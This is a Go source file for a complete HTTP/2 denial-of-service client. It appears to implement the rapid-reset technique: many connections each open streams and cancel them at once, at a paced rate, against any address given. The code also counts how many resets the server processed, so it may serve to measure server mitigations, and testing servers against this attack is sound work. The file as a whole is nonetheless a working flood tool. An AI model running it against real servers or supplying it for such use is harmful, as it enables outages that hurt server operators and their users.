package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"math"
	"net"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attackConfig is one burst: conns h2c connections to addr, on which
// streams are opened on path and reset at once, at rate streams a second
// in all, for duration.
type attackConfig struct {
	addr      string
	path      string
	authority string // :authority; empty: addr
	conns     int
	rate      float64
	duration  time.Duration
	// ackTimeout bounds the wait for the final PING's acknowledgement on
	// each connection, and each write.
	ackTimeout time.Duration
}

func (c attackConfig) validate() error {
	switch {
	case c.addr == "":
		return errors.New("-addr is required")
	case !strings.HasPrefix(c.path, "/"):
		return fmt.Errorf("-path %q: must start with /", c.path)
	case c.conns < 1:
		return fmt.Errorf("-conns %d: must be at least 1", c.conns)
	case c.rate <= 0 || math.IsInf(c.rate, 0) || math.IsNaN(c.rate):
		return fmt.Errorf("-rate %v: must be positive", c.rate)
	case c.duration <= 0:
		return fmt.Errorf("-duration %v: must be positive", c.duration)
	}
	return nil
}

// attackResult is what a burst did.
type attackResult struct {
	Elapsed time.Duration // from the first stream to the end of sending
	// Resets is the streams opened and reset (a HEADERS with END_STREAM,
	// then RST_STREAM CANCEL, in one write).
	Resets int64
	// Acked is the resets the server had read when it acknowledged the
	// PING each connection sends after its last reset (frames are read in
	// order); resets on a connection that ended first are not counted.
	Acked int64
	// BeforeGoAway is the resets on connections the server ended with a
	// GOAWAY whose stream ids were at most its last stream id: those the
	// server says it may have processed (Go's server names the last stream
	// it read). Acked + BeforeGoAway is what the server read.
	BeforeGoAway int64
	// Missed is the streams the pacing scheduled that were never sent:
	// the writes fell behind by more than a batch (the server, or this
	// process, did not keep up), or the server's
	// SETTINGS_MAX_CONCURRENT_STREAMS did not allow them.
	Missed int64
	// MaxConcurrent is the smallest SETTINGS_MAX_CONCURRENT_STREAMS a
	// connection was given (0: the server never set it, so unlimited).
	MaxConcurrent uint32
	// LimitWaits counts the streams held back by MaxConcurrent.
	LimitWaits int64
	// Dials is the connections opened, Reconnects those after the first
	// of each worker.
	Dials, Reconnects int64
	// GoAways counts the GOAWAY frames received, by error code.
	GoAways     int64
	GoAwayCodes map[string]int64
	// Errors counts the connections that failed without a GOAWAY (a dial,
	// write or read error, a PING not acknowledged); FirstErrors holds the
	// first few.
	Errors      int64
	FirstErrors []string
	// Frames received, by type (HEADERS of responses that started before
	// the reset reached the server, their DATA, RST_STREAM, ...).
	Frames map[string]int64
}

// Rate is the achieved resets a second: those the server read (Acked +
// BeforeGoAway) over the burst's time.
func (r attackResult) Rate() float64 {
	if r.Elapsed <= 0 {
		return 0
	}
	return float64(r.Acked+r.BeforeGoAway) / r.Elapsed.Seconds()
}

// SentRate is the resets sent a second, the server's reading them or not.
func (r attackResult) SentRate() float64 {
	if r.Elapsed <= 0 {
		return 0
	}
	return float64(r.Resets) / r.Elapsed.Seconds()
}

func (r attackResult) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "resets sent %d in %.2f s (%.0f/s); read by the server %d (%.0f/s): acknowledged by the final PINGs %d, before a GOAWAY's last stream id %d; missed by the pacing %d\n",
		r.Resets, r.Elapsed.Seconds(), r.SentRate(), r.Acked+r.BeforeGoAway, r.Rate(), r.Acked, r.BeforeGoAway, r.Missed)
	fmt.Fprintf(&b, "server SETTINGS_MAX_CONCURRENT_STREAMS %d; streams held back by it %d\n", r.MaxConcurrent, r.LimitWaits)
	fmt.Fprintf(&b, "connections dialed %d (reconnects %d); GOAWAYs %d%s; errors %d\n",
		r.Dials, r.Reconnects, r.GoAways, mapString(r.GoAwayCodes), r.Errors)
	for _, e := range r.FirstErrors {
		fmt.Fprintf(&b, "  error: %s\n", e)
	}
	fmt.Fprintf(&b, "frames received:%s\n", mapString(r.Frames))
	return b.String()
}

// mapString writes m as " (k n, k n)" in key order, "" when empty.
func mapString(m map[string]int64) string {
	if len(m) == 0 {
		return ""
	}
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	parts := make([]string, len(keys))
	for i, k := range keys {
		parts[i] = fmt.Sprintf("%s %d", k, m[k])
	}
	return " (" + strings.Join(parts, ", ") + ")"
}

// tally gathers the workers' counts.
type tally struct {
	resets, acked, beforeGoAway atomic.Int64
	missed, waits               atomic.Int64
	dials, goaways, errs        atomic.Int64

	mu          sync.Mutex
	maxStreams  uint32
	goawayCodes map[string]int64
	firstErrors []string
	frames      map[string]int64
}

func (t *tally) fail(err error) {
	t.errs.Add(1)
	t.mu.Lock()
	if len(t.firstErrors) < 5 {
		t.firstErrors = append(t.firstErrors, err.Error())
	}
	t.mu.Unlock()
}

func (t *tally) goaway(code http2.ErrCode) {
	t.goaways.Add(1)
	t.mu.Lock()
	t.goawayCodes[code.String()]++
	t.mu.Unlock()
}

func (t *tally) settings(max uint32) {
	t.mu.Lock()
	if max != 0 && (t.maxStreams == 0 || max < t.maxStreams) {
		t.maxStreams = max
	}
	t.mu.Unlock()
}

func (t *tally) addFrames(m map[string]int64) {
	t.mu.Lock()
	for k, n := range m {
		t.frames[k] += n
	}
	t.mu.Unlock()
}

// attack runs one burst and returns what it did. Each of cfg.conns
// workers paces its share of the rate on a connection of its own and
// reconnects when the server ends it. An error is returned only for an
// invalid cfg; what failed on the way is counted in the result.
func attack(ctx context.Context, cfg attackConfig) (attackResult, error) {
	if err := cfg.validate(); err != nil {
		return attackResult{}, err
	}
	if cfg.authority == "" {
		cfg.authority = cfg.addr
	}
	if cfg.ackTimeout <= 0 {
		cfg.ackTimeout = 10 * time.Second
	}
	t := &tally{goawayCodes: map[string]int64{}, frames: map[string]int64{}}
	start := time.Now()
	end := start.Add(cfg.duration)
	var wg sync.WaitGroup
	for range cfg.conns {
		wg.Go(func() {
			w := &worker{cfg: cfg, t: t, rate: cfg.rate / float64(cfg.conns)}
			w.run(ctx, start, end)
		})
	}
	wg.Wait()
	elapsed := time.Since(start)
	if d := end.Sub(start); elapsed > d {
		elapsed = d // the final PINGs are not sending time
	}
	r := attackResult{
		Elapsed: elapsed, Resets: t.resets.Load(), Acked: t.acked.Load(), BeforeGoAway: t.beforeGoAway.Load(), Missed: t.missed.Load(),
		LimitWaits: t.waits.Load(), Dials: t.dials.Load(), GoAways: t.goaways.Load(), Errors: t.errs.Load(),
		MaxConcurrent: t.maxStreams, GoAwayCodes: t.goawayCodes, FirstErrors: t.firstErrors, Frames: t.frames,
	}
	r.Reconnects = max(0, r.Dials-int64(cfg.conns))
	return r, nil
}

// worker drives one connection at a time.
type worker struct {
	cfg  attackConfig
	t    *tally
	rate float64 // streams a second
}

// tick is the pacing interval: each tick sends the streams that fell due.
const tick = time.Millisecond

// maxLag is the most a worker catches up in one write, in time at its
// rate: streams due beyond it are counted as missed.
const maxLag = 20 * time.Millisecond

func (w *worker) run(ctx context.Context, start, end time.Time) {
	batchMax := max(1, int64(w.rate*maxLag.Seconds()))
	var scheduled int64 // streams due so far, sent or missed
	var c *h2conn
	defer func() {
		if c != nil {
			c.close()
			w.t.beforeGoAway.Add(c.readBeforeGoAway())
		}
	}()
	for {
		now := time.Now()
		if ctx.Err() != nil || !now.Before(end) {
			break
		}
		if c == nil || c.dead() {
			if c != nil {
				c.close()
				w.t.beforeGoAway.Add(c.readBeforeGoAway())
			}
			var err error
			c, err = w.dial(ctx, end)
			if err != nil {
				w.t.fail(err)
				c = nil
				sleep(ctx, 50*time.Millisecond)
				continue
			}
		}
		due := int64(w.rate*now.Sub(start).Seconds()) - scheduled
		if due > batchMax {
			w.t.missed.Add(due - batchMax)
			scheduled += due - batchMax
			due = batchMax
		}
		if due > 0 {
			sent, held, err := c.openReset(int(due))
			scheduled += due
			w.t.resets.Add(int64(sent))
			w.t.waits.Add(int64(held))
			w.t.missed.Add(due - int64(sent))
			if err != nil {
				c.fail(err)
			}
		}
		sleep(ctx, tick)
	}
	if c != nil && !c.dead() {
		if err := c.ping(ctx); err != nil {
			c.fail(err)
		} else if !c.goaway.Load() {
			w.t.acked.Add(c.sent)
		}
	}
}

func sleep(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}

// h2conn is one client connection: the writer (the worker) and a reader
// goroutine, which answers SETTINGS and PING and counts what it reads.
type h2conn struct {
	t       *tally
	conn    net.Conn
	timeout time.Duration

	wmu  sync.Mutex // the writes: bw, fr's writing side, enc
	bw   *bufio.Writer
	fr   *http2.Framer
	enc  *hpack.Encoder
	hbuf bytes.Buffer
	path string
	auth string
	next uint32 // next stream id
	open int    // streams opened and not yet reset (this side's count)
	sent int64  // resets sent on this connection

	settings chan struct{} // closed at the server's first SETTINGS
	acks     chan [8]byte  // PING acknowledgements
	done     chan struct{} // closed when the reader returns

	maxStreams atomic.Uint32 // the server's SETTINGS_MAX_CONCURRENT_STREAMS (MaxUint32: none)
	goaway     atomic.Bool   // a GOAWAY came: stop using the connection
	lastStream atomic.Uint32 // the first GOAWAY's last stream id
	failed     atomic.Bool   // an error was counted, or the connection is closed
	closing    atomic.Bool   // closed by us: the reader's error is not one
}

// initialWindow is the connection-level receive window this client gives
// the server (and tops up), so that the DATA of responses that started
// before their reset never stalls the connection.
const initialWindow = 1 << 30

func (w *worker) dial(ctx context.Context, end time.Time) (*h2conn, error) {
	w.t.dials.Add(1)
	d := net.Dialer{Timeout: w.cfg.ackTimeout}
	conn, err := d.DialContext(ctx, "tcp", w.cfg.addr)
	if err != nil {
		return nil, fmt.Errorf("dial: %w", err)
	}
	c := &h2conn{
		t: w.t, conn: conn, timeout: w.cfg.ackTimeout, path: w.cfg.path, auth: w.cfg.authority, next: 1,
		settings: make(chan struct{}), acks: make(chan [8]byte, 4), done: make(chan struct{}),
	}
	c.maxStreams.Store(math.MaxUint32)
	c.bw = bufio.NewWriterSize(conn, 64<<10)
	c.fr = http2.NewFramer(c.bw, bufio.NewReaderSize(conn, 64<<10))
	c.enc = hpack.NewEncoder(&c.hbuf)
	c.wmu.Lock()
	_ = conn.SetWriteDeadline(time.Now().Add(c.timeout))
	_, err = io.WriteString(c.bw, http2.ClientPreface)
	if err == nil {
		// No push; the server's DATA may use the whole stream window.
		err = c.fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0})
	}
	if err == nil {
		err = c.fr.WriteWindowUpdate(0, initialWindow-65535)
	}
	if err == nil {
		err = c.bw.Flush()
	}
	c.wmu.Unlock()
	if err != nil {
		conn.Close()
		return nil, fmt.Errorf("preface: %w", err)
	}
	go c.read()
	wait := time.NewTimer(c.timeout)
	defer wait.Stop()
	select {
	case <-c.settings:
		return c, nil
	case <-c.done:
		c.close()
		if c.goaway.Load() {
			return nil, errors.New("GOAWAY before SETTINGS")
		}
		return nil, errors.New("connection ended before the server's SETTINGS")
	case <-wait.C:
	case <-ctx.Done():
	}
	c.close()
	return nil, errors.New("no SETTINGS from the server in time")
}

// openReset opens up to n streams, each reset right after its HEADERS, in
// one write. A stream counts toward the server's
// SETTINGS_MAX_CONCURRENT_STREAMS from its HEADERS to its RST_STREAM (a
// reset stream no longer counts: that is what the attack relies on), so at
// most one is open at a time; held counts the streams a limit of 0 held
// back. It stops early at stream-id exhaustion or a GOAWAY.
func (c *h2conn) openReset(n int) (sent, held int, err error) {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	_ = c.conn.SetWriteDeadline(time.Now().Add(c.timeout))
	for ; sent < n; sent++ {
		if c.goaway.Load() || c.next > math.MaxInt32 {
			break
		}
		if uint32(c.open) >= c.maxStreams.Load() {
			held = n - sent
			break
		}
		id := c.next
		c.hbuf.Reset()
		for _, f := range [...]hpack.HeaderField{
			{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"},
			{Name: ":authority", Value: c.auth}, {Name: ":path", Value: c.path},
		} {
			if err = c.enc.WriteField(f); err != nil {
				return sent, held, err
			}
		}
		err = c.fr.WriteHeaders(http2.HeadersFrameParam{
			StreamID: id, BlockFragment: c.hbuf.Bytes(), EndStream: true, EndHeaders: true,
		})
		if err != nil {
			return sent, held, err
		}
		c.next += 2
		c.open++
		if err = c.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return sent, held, err
		}
		c.open--
	}
	if err = c.bw.Flush(); err != nil {
		return 0, held, err // what was buffered may not have gone out
	}
	c.sent += int64(sent)
	if c.next > math.MaxInt32 {
		c.failed.Store(true) // stream ids are used up: a new connection
		c.closing.Store(true)
	}
	return sent, held, nil
}

// ping sends a PING after the last reset and waits for its
// acknowledgement: the server has then read every frame before it. It
// returns nil, too, when a GOAWAY ended the connection first (counted as
// such; the caller checks).
func (c *h2conn) ping(ctx context.Context) error {
	data := [8]byte{'r', 'a', 'p', 'i', 'd', 'e', 'n', 'd'}
	c.wmu.Lock()
	_ = c.conn.SetWriteDeadline(time.Now().Add(c.timeout))
	err := c.fr.WritePing(false, data)
	if err == nil {
		err = c.bw.Flush()
	}
	c.wmu.Unlock()
	if err != nil {
		return fmt.Errorf("final PING: %w", err)
	}
	wait := time.NewTimer(c.timeout)
	defer wait.Stop()
	for {
		select {
		case got := <-c.acks:
			if got == data {
				return nil
			}
		case <-c.done:
			if c.goaway.Load() {
				return nil // counted as a GOAWAY; these resets are not acknowledged
			}
			return errors.New("connection ended before the final PING's acknowledgement")
		case <-wait.C:
			return errors.New("final PING not acknowledged in time")
		case <-ctx.Done():
			return ctx.Err()
		}
	}
}

// readBeforeGoAway returns the resets of a closed connection that a GOAWAY
// ended whose stream ids were at most its last stream id; 0 without a
// GOAWAY.
func (c *h2conn) readBeforeGoAway() int64 {
	if !c.goaway.Load() {
		return 0
	}
	return min(c.sent, int64(c.lastStream.Load()+1)/2) // ids 1, 3, 5...
}

// dead reports whether the connection is to be replaced.
func (c *h2conn) dead() bool { return c.failed.Load() || c.goaway.Load() }

// fail counts err, unless the server said GOAWAY first (then the end is
// the GOAWAY's), and marks the connection dead.
func (c *h2conn) fail(err error) {
	if c.failed.Swap(true) {
		return
	}
	if !c.goaway.Load() {
		c.t.fail(err)
	}
}

func (c *h2conn) close() {
	c.closing.Store(true)
	c.failed.Store(true)
	c.conn.Close()
	<-c.done
}

// read reads and discards the server's frames: it acknowledges SETTINGS
// and PING, tops up the connection's receive window, and records GOAWAY.
func (c *h2conn) read() {
	defer close(c.done)
	frames := map[string]int64{}
	defer func() { c.t.addFrames(frames) }()
	var consumed uint32
	settings := false
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			if !c.closing.Load() && !c.goaway.Load() {
				c.fail(fmt.Errorf("read: %w", err))
			}
			return
		}
		frames[f.Header().Type.String()]++
		var reply func() error
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if f.IsAck() {
				break
			}
			if v, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
				c.maxStreams.Store(v)
				c.t.settings(v)
			}
			reply = c.fr.WriteSettingsAck
			if !settings {
				settings = true
				close(c.settings)
			}
		case *http2.PingFrame:
			if f.IsAck() {
				select {
				case c.acks <- f.Data:
				default:
				}
				break
			}
			data := f.Data
			reply = func() error { return c.fr.WritePing(true, data) }
		case *http2.GoAwayFrame:
			if !c.goaway.Load() {
				c.lastStream.Store(f.LastStreamID)
				c.goaway.Store(true)
				c.t.goaway(f.ErrCode)
			}
		case *http2.DataFrame:
			consumed += f.Header().Length
			if consumed >= initialWindow/2 {
				n := consumed
				consumed = 0
				reply = func() error { return c.fr.WriteWindowUpdate(0, n) }
			}
		}
		if reply != nil {
			c.wmu.Lock()
			_ = c.conn.SetWriteDeadline(time.Now().Add(c.timeout))
			err := reply()
			if err == nil {
				err = c.bw.Flush()
			}
			c.wmu.Unlock()
			if err != nil && !c.closing.Load() {
				c.fail(fmt.Errorf("write: %w", err))
			}
		}
	}
}
